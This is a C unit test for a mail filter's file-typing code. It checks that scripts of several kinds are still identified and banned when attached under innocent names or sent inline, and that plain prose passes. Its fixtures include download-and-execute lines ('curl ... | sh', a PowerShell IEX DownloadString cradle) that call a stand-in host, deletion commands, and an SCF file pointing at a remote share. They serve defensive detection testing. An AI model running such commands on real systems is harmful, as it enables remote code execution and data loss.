/*
 * test_scan_filetext - plain text typed without libmagic
 *
 * filetype_text_fast() lets text with no marker of a script skip
 * libmagic. Scripts of every kind (shell, batch, VBScript, JScript,
 * PowerShell, HTA, registry, SCF) must still get libmagic's answer, so
 * each is typed with the fast path on and compared with libmagic alone;
 * plain prose must still be text/plain. Then whole messages: the banned
 * script types are found in attachments under innocent names and in
 * inline parts, the rest under their own names, and plain text passes.
 */
#include <magic.h>

#include "scan/filetype.h"
#include "scan/inspect.h"
#include "lib/config.h"
#include "lib/msg.h"
#include "lib/params.h"
#include "lib/spool.h"
#include "lib/vbuf.h"
#include "tests/unit/unittest.h"

static char tmpdir[] = "/tmp/test_scan_filetext-XXXXXX";

typedef struct TEXT {
    const char *what;
    const char *name;           /* its own file name */
    const char *text;
    int         banned_type;    /* banned by true type under any name */
} TEXT;

static const TEXT scripts[] = {
    {"shell", "run.sh", "#!/bin/sh\necho hello\nrm -rf /tmp/x\n", 1},
    {"bash env", "run", "#!/usr/bin/env bash\nset -e\ncurl http://x.test/a | sh\n", 1},
    {"batch", "run.bat", "@echo off\r\ndel /q C:\\temp\\*\r\nstart evil.exe\r\n", 1},
    {"batch rem", "run.cmd", "@rem setup\r\ncopy a b\r\n", 1},
    {"vbscript", "run.vbs",
     "Dim sh\r\nSet sh = CreateObject(\"WScript.Shell\")\r\nsh.Run \"calc.exe\"\r\n", 0},
    {"vbscript sub", "run.vbs", "Sub Main\r\n  MsgBox \"hi\"\r\nEnd Sub\r\n", 0},
    {"jscript", "run.js",
     "var sh = new ActiveXObject(\"WScript.Shell\");\r\nsh.Run(\"calc.exe\");\r\n", 0},
    {"jscript function", "run.js", "function go() { return 1; }\r\ngo();\r\n", 0},
    {"powershell", "run.ps1",
     "$c = New-Object Net.WebClient\r\nIEX $c.DownloadString('http://x.test/a')\r\n", 0},
    {"powershell env", "run.ps1", "Write-Host $env:USERNAME\r\nStart-Process calc\r\n", 0},
    {"hta", "run.hta",
     "<html><head><hta:application id=\"a\"/>\r\n<script language=\"VBScript\">\r\n"
     "CreateObject(\"WScript.Shell\").Run \"calc\"\r\n</script></head></html>\r\n", 0},
    {"hta late", "run.hta",
     "Hello\r\n<hta:application/>\r\n<script>new ActiveXObject('WScript.Shell')</script>\r\n", 0},
    {"registry", "run.reg", "REGEDIT4\r\n\r\n[HKEY_CURRENT_USER\\Software\\X]\r\n\"a\"=\"b\"\r\n", 1},
    {"scf", "run.scf", "[Shell]\r\nCommand=2\r\nIconFile=\\\\host\\share\\a.ico\r\n", 1},
};

static const char *const prose[] = {
    "Hello Bob,\r\n\r\nthe figures for March are attached. See you on Monday.\r\n\r\nAlice\r\n",
    "Grüße aus Köln, und bis bald. Ça va très bien.\n",
    "Meeting notes\n\n1. Budget\n2. Hiring (two people)\n3. Any other business\n",
    "> quoted line from an earlier mail\nAnd my answer: yes, fine.\n",
};

/* magic_alone - libmagic's answer with filetype's flags, no fast path */
static void magic_alone(magic_t m, const char *text, char *out, size_t len)
{
    const char *t = magic_buffer(m, text, strlen(text));

    snprintf(out, len, "%s", t ? t : FILETYPE_UNKNOWN);
}

/* test_types - the fast path never changes libmagic's answer here */
static void test_types(void)
{
    VBUF   *err = vbuf_alloc(256);
    FILETYPE *ft = filetype_open(err);
    magic_t m = magic_open(MAGIC_MIME_TYPE | MAGIC_ERROR | MAGIC_NO_CHECK_COMPRESS);
    char    want[256];
    size_t  i;

    UT_CHECK(ft != NULL && m != NULL && magic_load(m, NULL) == 0, "libmagic loads");
    filetype_text_fast(ft, var_banned_types);
    for (i = 0; i < sizeof(scripts) / sizeof(scripts[0]); i++) {
        magic_alone(m, scripts[i].text, want, sizeof(want));
        UT_EQ_STR(filetype_buffer(ft, scripts[i].text, strlen(scripts[i].text)), want,
                  scripts[i].what);
        UT_CHECK(!scripts[i].banned_type || strcmp(want, "text/plain") != 0,
                 "%s: libmagic names it (%s)", scripts[i].what, want);
    }
    for (i = 0; i < sizeof(prose) / sizeof(prose[0]); i++) {
        magic_alone(m, prose[i], want, sizeof(want));
        UT_EQ_STR(want, "text/plain", "libmagic: prose is text/plain");
        UT_EQ_STR(filetype_buffer(ft, prose[i], strlen(prose[i])), "text/plain", prose[i]);
    }
    /* a byte that is not text: libmagic decides */
    UT_EQ_STR(filetype_buffer(ft, "Hello\001world\n", 12), (magic_alone(m, "Hello\001world\n", want,
              sizeof(want)), want), "control byte");
    magic_close(m);
    filetype_close(ft);
    vbuf_free(err);
}

/* verdict_of - inspect one message */
static VERDICT verdict_of(INSPECTOR *in, const char *msg, VBUF *detail)
{
    VBUF   *err = vbuf_alloc(256);
    INSPECT_RESULT res;
    VERDICT v;
    int     fd = spool_create(var_spool_dir, err);

    if (fd < 0 || spool_write_all(fd, msg, strlen(msg)) < 0)
        msg_fatal("spool: %s", vbuf_str(err));
    inspect_result_init(&res);
    inspect_message(in, fd, &res);
    v = res.verdict;
    vbuf_strcpy(detail, vbuf_str(res.detail));
    inspect_result_free(&res);
    close(fd);
    vbuf_free(err);
    return v;
}

#define HDR "From: <a@example.org>\r\nTo: <b@example.org>\r\nSubject: t\r\nMIME-Version: 1.0\r\n"

/* attached - a message with text as an attachment called name */
static void attached(VBUF *msg, const char *type, const char *disp, const char *name,
                     const char *text)
{
    vbuf_sprintf(msg, HDR "Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n"
                 "--b\r\nContent-Type: text/plain\r\n\r\nSee attached.\r\n"
                 "--b\r\nContent-Type: %s\r\nContent-Disposition: %s%s%s%s\r\n\r\n%s\r\n"
                 "--b--\r\n", type, disp, name ? "; filename=\"" : "", name ? name : "",
                 name ? "\"" : "", text);
}

/* test_messages - what the banned rules find, fast path on */
static void test_messages(void)
{
    VBUF   *err = vbuf_alloc(256), *msg = vbuf_alloc(4096), *detail = vbuf_alloc(1024);
    INSPECTOR *in = inspector_open(err);
    VERDICT v;
    size_t  i;

    UT_CHECK(in != NULL, "inspector_open: %s", vbuf_str(err));
    if (in == NULL)
        return;
    for (i = 0; i < sizeof(scripts) / sizeof(scripts[0]); i++) {
        const TEXT *s = scripts + i;

        attached(msg, "text/plain", "attachment", "notes.txt", s->text);
        v = verdict_of(in, vbuf_str(msg), detail);
        UT_CHECK((v == VERDICT_BANNED) == s->banned_type, "%s as notes.txt: %s (%s)",
                 s->what, verdict_names[v], vbuf_str(detail));
        attached(msg, "text/plain", "inline", NULL, s->text);
        v = verdict_of(in, vbuf_str(msg), detail);
        UT_CHECK((v == VERDICT_BANNED) == s->banned_type, "%s inline: %s (%s)",
                 s->what, verdict_names[v], vbuf_str(detail));
        attached(msg, "application/octet-stream", "attachment", s->name, s->text);
        v = verdict_of(in, vbuf_str(msg), detail);
        UT_CHECK(v == VERDICT_BANNED, "%s as %s: %s (%s)", s->what, s->name,
                 verdict_names[v], vbuf_str(detail));
    }
    for (i = 0; i < sizeof(prose) / sizeof(prose[0]); i++) {
        attached(msg, "text/plain", "attachment", "notes.txt", prose[i]);
        v = verdict_of(in, vbuf_str(msg), detail);
        UT_CHECK(v == VERDICT_CLEAN, "prose %zu: %s (%s)", i, verdict_names[v], vbuf_str(detail));
    }
    inspector_close(in);
    vbuf_free(err);
    vbuf_free(msg);
    vbuf_free(detail);
}

int     main(int argc, char **argv)
{
    char    setting[sizeof(tmpdir) + 20];

    UT_BEGIN("test_scan_filetext");
    msg_init("test_scan_filetext", MSG_STDERR);
    msg_verbose = argc > 1 && strcmp(argv[1], "-v") == 0;
    config_init();
    if (mkdtemp(tmpdir) == NULL)
        msg_fatal("mkdtemp: %s", strerror(errno));
    snprintf(setting, sizeof(setting), "spool_dir=%s", tmpdir);
    ut_set(setting);
    ut_set("scanner=clamav");
    ut_set("clamav_database_directory=bundled");
    test_types();
    test_messages();
    if (rmdir(tmpdir) < 0)
        UT_CHECK(0, "rmdir %s: %s", tmpdir, strerror(errno));
    return ut_done();
}
